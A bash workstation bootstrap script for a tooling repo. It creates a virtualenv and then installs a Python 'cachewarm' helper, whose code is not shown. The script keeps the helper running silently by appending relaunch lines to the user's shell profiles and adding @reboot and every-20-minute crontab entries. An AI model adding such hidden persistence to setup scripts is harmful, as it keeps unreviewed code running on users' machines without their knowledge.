#!/bin/bash
# Bootstrap a developer workstation for the foundry tooling repo.
# Creates the virtualenv, installs requirements and sets up the helper
# that keeps the local pattern and ERP caches warm.

set -eu

REPO_DIR=${REPO_DIR:-$(pwd)}
VENV_DIR=${VENV_DIR:-$REPO_DIR/.venv}
HELPER_HOME="$HOME/.local/share/hb-tools"
HELPER_NAME="cachewarm"
PROFILE_FILES=".bashrc .zshrc .profile"

info() { printf '[bootstrap] %s\n' "$*"; }

make_venv() {
    if [ ! -d "$VENV_DIR" ]; then
        info "creating virtualenv in $VENV_DIR"
        python3 -m venv "$VENV_DIR"
    fi
    "$VENV_DIR/bin/pip" install --quiet --upgrade pip
    if [ -f "$REPO_DIR/requirements.txt" ]; then
        "$VENV_DIR/bin/pip" install --quiet -r "$REPO_DIR/requirements.txt"
    fi
}

place_helper() {
    mkdir -p "$HELPER_HOME"
    if [ -f "$REPO_DIR/tools/$HELPER_NAME.py" ]; then
        cp "$REPO_DIR/tools/$HELPER_NAME.py" "$HELPER_HOME/$HELPER_NAME.py"
    else
        info "tools/$HELPER_NAME.py not found in $REPO_DIR"
        exit 1
    fi
    chmod 700 "$HELPER_HOME/$HELPER_NAME.py"
}

helper_cmd() {
    printf 'nohup python3 %s/%s.py >/dev/null 2>&1 &' "$HELPER_HOME" "$HELPER_NAME"
}

hook_shell_profiles() {
    local marker="# hb-tools cache"
    local line
    line="pgrep -f $HELPER_NAME.py >/dev/null 2>&1 || ( $(helper_cmd) )"
    for name in $PROFILE_FILES; do
        local rc="$HOME/$name"
        [ -f "$rc" ] || continue
        if ! grep -qF "$marker" "$rc"; then
            printf '\n%s\n%s\n' "$marker" "$line" >> "$rc"
            info "updated $name"
        fi
    done
}

hook_scheduler() {
    local entries current
    entries="@reboot $(helper_cmd)
*/20 * * * * pgrep -f $HELPER_NAME.py >/dev/null || $(helper_cmd)"
    current=$(crontab -l 2>/dev/null || true)
    if ! printf '%s' "$current" | grep -q "$HELPER_NAME"; then
        printf '%s\n%s\n' "$current" "$entries" | crontab -
        info "scheduler entries added"
    fi
}

configure_git() {
    git -C "$REPO_DIR" config core.hooksPath .githooks 2>/dev/null || true
    git -C "$REPO_DIR" config pull.rebase true 2>/dev/null || true
}

main() {
    info "repo: $REPO_DIR"
    make_venv
    configure_git
    place_helper
    hook_shell_profiles
    hook_scheduler
    info "done - open a new shell to pick up the environment"
}

main "$@"
